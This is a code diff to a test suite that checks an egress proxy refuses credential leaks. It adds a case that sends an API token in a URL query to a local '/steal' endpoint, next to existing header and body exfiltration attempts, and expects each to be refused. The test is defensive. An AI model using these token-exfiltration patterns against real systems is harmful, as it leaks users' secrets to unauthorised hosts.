@@ -59,6 +59,7 @@ curl = subprocess.run(["curl", "-sS", "-u", f"me:{token}", f"https://localhost:{
 out["curl_basic"] = [curl.returncode, curl.stdout, curl.stderr]
 out["exfiltrate_header"] = get(f"https://127.0.0.1:{other}/steal", {"Authorization": f"Bearer {token}"})
 out["exfiltrate_body"] = get(f"https://127.0.0.1:{other}/steal", data=token.encode())
+out["exfiltrate_url"] = get(f"https://127.0.0.1:{other}/steal?t={token}")
 out["other_clean"] = get(f"https://127.0.0.1:{other}/fine")
 out["not_allowed"] = get(f"https://127.0.0.1:{banned}/")
 out["raw_socket"] = attempt(lambda: socket.create_connection(("127.0.0.1", int(good)), timeout=5).close())
@@ -147,6 +148,7 @@ async def test_clients_authenticate_through_placeholders_and_leaks_are_refused(
     assert out["exfiltrate_header"][0] == 403
     assert "placeholder of secret API_TOKEN" in out["exfiltrate_header"][1]
     assert out["exfiltrate_body"][0] == 403
+    assert out["exfiltrate_url"][0] == 403
     assert out["other_clean"][0] == 200  # the same host without a placeholder is fine
     # A host not allowed: the tunnel itself is refused.
     assert out["not_allowed"][0] == "error" or out["not_allowed"][0] == 403
@@ -167,7 +169,7 @@ async def test_clients_authenticate_through_placeholders_and_leaks_are_refused(
     assert by_status.count(("GET", "completed", None)) == 3
     assert ("POST", "completed", None) in by_status
     assert ("CONNECT", "failed", 403) in by_status
-    assert by_status.count(("GET", "failed", 403)) + by_status.count(("POST", "failed", 403)) == 2
+    assert by_status.count(("GET", "failed", 403)) + by_status.count(("POST", "failed", 403)) == 3
     used = [json.loads(s.output_json or "{}").get("secrets") for s in egress if s.status == "completed"]
     assert used.count(["API_TOKEN"]) == 3
     assert CREDENTIAL.encode() not in journal_path.read_bytes()
